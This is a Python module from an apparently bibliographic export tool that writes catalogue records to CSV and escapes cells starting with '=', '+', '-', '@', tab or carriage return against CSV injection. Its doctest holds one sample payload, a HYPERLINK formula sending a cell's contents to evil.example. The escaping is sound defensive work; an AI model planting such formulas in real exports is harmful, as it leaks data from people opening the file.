"""CSV: one row per record, the forms of each title or name joined with " = " so no script is lost.

Cells a spreadsheet would run as a formula are escaped as OWASP's CSV-injection guidance says: a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which Excel,
LibreOffice and Google Sheets read as "this is text" (plain numbers such as a year ``-200`` are left alone: a
spreadsheet reads them as the number they are, nothing runs).

    >>> print(csv_line(["nlb:1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-200", "@SUM(A1)"]).rstrip())
    nlb:1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-200,'@SUM(A1)
"""

from __future__ import annotations

import csv
import io
import re

from tongwen.export.citations import joined
from tongwen.export.common import display_date, links_of, publication_forms
from tongwen.model import Record

CSV_COLUMNS = (
    "id", "source", "institution", "title", "other_titles", "creators", "contributors", "date", "year_from",
    "year_to", "publisher", "place", "languages", "identifiers", "subjects", "type", "extent", "notes", "links",
    "rights", "license",
)
_SEPARATOR = " | "  # between several titles, names, subjects… in one cell


def csv_row(record: Record) -> list[str]:
    main = record.main_title
    publications = list(publication_forms(record))
    values = {
        "id": record.id,
        "source": record.source,
        "institution": record.institution or "",
        "title": joined(main.forms) if main else "",
        "other_titles": _SEPARATOR.join(joined(t.forms) for t in record.titles if t is not main),
        "creators": _SEPARATOR.join(joined(a.forms) for a in record.agents if a.role == "creator"),
        "contributors": _SEPARATOR.join(f"{joined(a.forms)} ({a.role})" for a in record.agents if a.role != "creator"),
        "date": display_date(record) or "",
        "year_from": "" if record.year_from is None else str(record.year_from),
        "year_to": "" if record.year_to is None else str(record.year_to),
        "publisher": " = ".join(dict.fromkeys(p.publisher for p in publications if p.publisher)),
        "place": " = ".join(dict.fromkeys(p.place for p in publications if p.place)),
        "languages": _SEPARATOR.join(record.languages),
        "identifiers": _SEPARATOR.join(f"{i.scheme}:{i.value}" for i in record.identifiers),
        "subjects": _SEPARATOR.join(s.term for s in record.subjects),
        "type": record.content_type or "",
        "extent": record.extent or "",
        "notes": _SEPARATOR.join(record.notes),
        "links": _SEPARATOR.join(links_of(record, "landing", "iiif_manifest", "thumbnail", "fulltext", "other")),
        "rights": record.rights or "",
        "license": record.license or "",
    }
    return [values[name] for name in CSV_COLUMNS]


_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def spreadsheet_safe(value: str) -> str:
    """The cell text with a leading apostrophe when a spreadsheet would take it for a formula."""
    if value.startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_line(values: list[str] | tuple[str, ...]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([spreadsheet_safe(v) for v in values])  # RFC 4180 ends
    return buffer.getvalue()
